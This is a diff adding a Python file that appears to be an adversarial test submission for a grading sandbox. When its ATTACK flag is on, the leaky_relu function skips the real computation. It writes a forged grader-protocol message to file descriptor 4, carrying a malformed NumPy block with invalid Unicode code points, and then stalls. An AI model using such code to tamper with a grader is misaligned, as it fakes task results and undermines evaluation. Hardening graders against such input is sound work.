@@ -1,0 +1,35 @@
+# ruff: noqa
+"""Sends letters that do not exist."""
+
+import os
+import time
+from grader.sandbox import wire
+
+import numpy as np
+
+ATTACK = True
+
+
+def message(number, value, **more):
+    return {
+        "id": number, "value": value, "failure": None, "changed": [], "shares_memory": [], "warnings": [],
+        "global_random_touched": False, "generators": [], **more,
+    }
+
+
+def block(header, body=b""):
+    return b"\x93NUMPY\x01\x00" + len(header).to_bytes(2, "little") + header + body
+
+
+def attack(x):
+    body = np.array([0xFFFFFFFF, 0xD800], np.uint32).tobytes()
+    header = b"{'descr': '<U1', 'fortran_order': False, 'shape': (2,), }\n"
+    os.write(4, wire.pack(message(2, {"array": 0}), [block(header, body)]))
+    time.sleep(30)
+
+
+def leaky_relu(x, negative_slope=0.01):
+    if ATTACK:
+        print("attack", flush=True)
+        return attack(x)
+    return np.where(x > 0, x, negative_slope * x)
